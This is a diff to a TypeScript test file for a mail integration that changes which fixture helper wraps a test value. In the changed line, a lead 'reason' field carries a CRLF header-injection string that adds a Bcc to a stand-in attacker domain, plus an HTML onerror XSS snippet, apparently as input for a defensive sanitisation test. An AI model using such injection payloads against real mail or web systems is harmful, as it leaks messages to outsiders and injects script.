@@ -1,6 +1,6 @@
 import type { Socket } from 'node:net'
 import { afterEach, describe, expect, test } from 'vitest'
-import { finishedCall, reportOf, spoken } from '../../../test/fixtures/finished-call.ts'
+import { confirmed, finishedCall, reportOf } from '../../../test/fixtures/finished-call.ts'
 import { startRawReceiver } from '../../../test/receivers/raw-receiver.ts'
 import { type SmtpReceiver, smtpReply, startSmtpReceiver } from '../../../test/receivers/smtp-receiver.ts'
 import { IntegrationError } from '../integration.ts'
@@ -75,7 +75,7 @@ describe('the mail', () => {
     const call = finishedCall([
       {
         type: 'lead-updated',
-        fields: { reason: spoken('leak\r\nBcc: x@evil.example <img src=x onerror=1>') },
+        fields: { reason: confirmed('leak\r\nBcc: x@evil.example <img src=x onerror=1>') },
       },
       { type: 'urgency-detected', urgency: { level: 'emergency', evidence: ['"gas" & <smoke>'] } },
     ])
